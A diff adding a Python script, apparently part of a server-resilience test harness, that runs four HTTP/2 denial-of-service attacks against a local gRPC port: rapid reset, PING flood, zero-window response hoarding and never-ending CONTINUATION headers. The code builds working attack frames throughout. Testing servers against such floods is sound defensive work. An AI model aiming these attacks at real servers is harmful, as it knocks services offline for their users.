@@ -1,0 +1,132 @@
+#!/usr/bin/env python3
+"""attackers.py KIND PORT: a client that means harm, as fast as one core of Python can, until SIGTERM.
+It says "attacking" once it does, and at the end a line of JSON."""
+
+import collections
+import json
+import pathlib
+import signal
+import socket
+import struct
+import sys
+import time
+
+if __name__ == "__main__":
+    sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
+
+from harness.memory import ACK, DATA, END_HEADERS, HEADERS, HELLO, PREFACE, SETTINGS, frame, request_block  # noqa: E402
+
+END_STREAM = 1
+RST_STREAM, PING, CONTINUATION = 3, 6, 9
+CANCEL = struct.pack(">I", 8)
+INITIAL_WINDOW_SIZE = 4
+PATIENCE_S = 1  # with a server that takes no more
+MEGABYTE = 1 << 20
+REQUEST = request_block("/helloworld.Greeter/SayHello")
+said = collections.Counter()
+
+
+def connect(port, hello=HELLO):
+    one = socket.create_connection(("127.0.0.1", port), 10)
+    one.sendall(hello)
+    said["connections"] += 1
+    return one
+
+
+def send(one, data):
+    """False when the server has hung up, or takes no more."""
+    began()
+    try:
+        one.settimeout(PATIENCE_S)
+        one.sendall(data)
+        said["bytes"] += len(data)
+        one.setblocking(False)
+        while one.recv(1 << 16):
+            pass
+    except BlockingIOError:
+        return True
+    except OSError:
+        pass
+    said["hung_up_on"] += 1
+    one.close()
+    return False
+
+
+def flood(port, pieces):
+    """One connection after another: each piece is some hundred frames."""
+    while True:
+        one = connect(port)
+        for piece in pieces:
+            if not send(one, piece):
+                break
+        one.close()
+
+
+def rapid_reset(port):
+    def stream(n):
+        return frame(HEADERS, END_HEADERS, n, REQUEST) + frame(RST_STREAM, 0, n, CANCEL)
+    flood(port, [b"".join(stream(200 * i + 2 * k + 1) for k in range(100)) for i in range(100)])
+
+
+def ping_flood(port):
+    flood(port, [b"".join([frame(PING, 0, 0, b"12345678")] * 500)] * 100)
+
+
+def zero_window(port):
+    """60 replies of a megabyte each that nobody takes: 20 connections, one after another in a second; then again."""
+    hello = (PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) + frame(SETTINGS, ACK, 0))
+    name = b"x" * (MEGABYTE - 16)  # with what goes before it, within a stream's first window
+    size, number = b"", len(name)
+    while number >= 128:
+        size, number = size + bytes([number % 128 + 128]), number // 128
+    message = b"\x0a" + size + bytes([number]) + name
+    body = b"\0" + struct.pack(">I", len(message)) + message
+    pieces = [body[i:i + 16_384] for i in range(0, len(body), 16_384)]
+
+    def request(n):
+        data = [frame(DATA, END_STREAM if piece is pieces[-1] else 0, n, piece) for piece in pieces]
+        return frame(HEADERS, END_HEADERS, n, REQUEST) + b"".join(data)
+    three = b"".join(request(n) for n in (1, 3, 5))  # within a connection's first window
+    while True:
+        held = []
+        for _ in range(20):
+            held.append(connect(port, hello))
+            send(held[-1], three)
+            time.sleep(0.05)
+        for one in held:
+            one.close()
+
+
+def slow_headers(port):
+    """200 header blocks that grow by a byte, and never end."""
+    held = {}
+    while True:
+        for place in range(200):
+            one = held.get(place)
+            if one is None:
+                held[place] = one = connect(port)
+                sent = send(one, frame(HEADERS, 0, 1, REQUEST))
+            else:
+                sent = send(one, frame(CONTINUATION, 0, 1, b"\x82"))
+            if not sent:
+                del held[place]
+        time.sleep(0.01)
+
+
+KINDS = {"rapid reset": rapid_reset, "ping flood": ping_flood, "zero window": zero_window, "slow headers": slow_headers}
+
+
+def began():
+    if not said["began"]:
+        said["began"] = 1
+        print("attacking", flush=True)
+
+
+def end(*_):
+    print(json.dumps({name: said[name] for name in ("connections", "hung_up_on", "bytes")}), flush=True)
+    sys.exit(0)
+
+
+if __name__ == "__main__":
+    signal.signal(signal.SIGTERM, end)
+    KINDS[sys.argv[1]](int(sys.argv[2]))
